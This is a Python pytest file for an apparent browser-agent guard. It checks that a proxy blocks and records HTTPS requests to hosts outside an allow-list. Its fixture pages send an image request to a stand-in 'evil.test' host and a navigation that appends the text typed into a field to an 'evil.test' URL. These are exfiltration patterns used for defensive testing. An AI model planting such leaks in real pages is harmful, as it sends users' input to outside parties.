"""Refused HTTPS hosts: the session proxy opens the tunnel to itself alone (nothing reaches the
host) and refuses each request inside it, as the page's own request: a subresource with the
403, a navigation with 204 (the tab stays where it was, and the agent hears of it); each
refusal is a ``network`` event of the session and is in the session's recorded flows, linked to
the step that caused it."""

from __future__ import annotations

import asyncio
from collections.abc import Iterator
from pathlib import Path

import pytest
from mitmproxy import io

from pagewarden import Guard, launch
from pagewarden.guard import GuardEvent
from pagewarden.testing import LocalSite, Response
from tests.heard import heard, refused_url_async
from tests.proxy.conftest import policies
from tests.proxy.tls import HTTPSServer, make_ca, make_server_cert

pytestmark = pytest.mark.browser

PAGE = """<!doctype html><title>Shop</title>
<button id=go onclick="document.body.append(Object.assign(new Image(), {src: 'https://evil.test/p.gif'}))">
Continue</button>"""


@pytest.fixture
def evil(tmp_path: Path) -> Iterator[HTTPSServer]:
    _, key, cert = make_ca(tmp_path)
    server = HTTPSServer(*make_server_cert(tmp_path, "evil.test", key, cert))
    yield server
    server.close()


async def test_a_refused_connect_is_recorded_and_reported(tmp_path: Path, evil: HTTPSServer) -> None:
    record = tmp_path / "session"
    site = LocalSite()
    site.route("shop.test", "/", lambda _r: Response(PAGE))
    with site:
        host_map = {"shop.test": site.port, "evil.test": evil.port}
        guard = Guard(policies=policies({"domain_allow": ["shop.test"]}), record=record, goal="Buy the book")
        events: list[GuardEvent] = []
        guard.subscribe(events.append)
        async with launch(guard, proxy=True, host_map=host_map) as page:
            await page.goto("http://shop.test/")
            await page.click("#go")  # step 2; the page then asks evil.test for an image over HTTPS
            for _ in range(100):
                if any(r.host == "evil.test" for r in guard.network.refusals):
                    break
                await asyncio.sleep(0.1)
    assert evil.paths == []
    refusal = next(r for r in guard.network.refusals if r.host == "evil.test")
    assert (refusal.action, refusal.method, refusal.rule, refusal.url) == (
        "request", "GET", "domain_allow", "https://evil.test/p.gif"
    )
    reported = [e.data for e in events if e.kind == "network" and e.data["host"] == "evil.test"]
    assert reported and reported[0]["rule"] == "domain_allow" and reported[0]["policy_id"] == "P-NET"
    with (record / "flows.mitm").open("rb") as handle:
        flows = list(io.FlowReader(handle).stream())
    inside = [f for f in flows if f.request.method == "GET" and f.request.host == "evil.test"]
    assert inside, [f.request.url for f in flows]
    assert inside[0].response is not None and inside[0].response.status_code == 403
    assert inside[0].metadata["pagewarden_refusal"]["rule"] == "domain_allow"
    assert inside[0].metadata["pagewarden_step"] == 2  # the click
    events_file = (record / "events.jsonl").read_text()
    assert '"evil.test"' in events_file and "domain_allow" in events_file


LEAVE = """<!doctype html><title>Shop</title>
<button id=go onclick="location.href = 'https://evil.test/nav?d=' + document.getElementById('q').value">
Search</button><input id=q aria-label=Query>"""


async def test_a_refused_https_navigation_keeps_the_tab_and_reaches_the_agent(evil: HTTPSServer) -> None:
    """A page's own navigation to a refused HTTPS host carrying what the agent typed: nothing
    reaches the host, the tab stays on its page with the typed value in neither its URL nor its
    history, and the agent hears of it (before, the refused ``CONNECT`` showed Chromium's error
    page at the refused URL and could not be told from the browser's own traffic)."""
    site = LocalSite()
    site.route("shop.test", "/", lambda _r: Response(LEAVE))
    with site:
        host_map = {"shop.test": site.port, "evil.test": evil.port}
        guard = Guard(policies=policies({"domain_allow": ["shop.test"]}), goal="Search the shop")
        async with launch(guard, proxy=True, host_map=host_map) as page:
            await page.goto("http://shop.test/")
            await page.fill("#q", "typed-4711")
            before = await page.unwrap().evaluate("history.length")

            async def next_call() -> None:
                assert await refused_url_async(page, "https://evil.test/nav")
                await page.hover("body")

            blocked = await heard(lambda: page.click("#go"), next_call)
            assert "evil.test" in blocked.verdict.explanation
            assert page.url == "http://shop.test/"
            assert await page.unwrap().evaluate("history.length") == before
    assert evil.paths == []
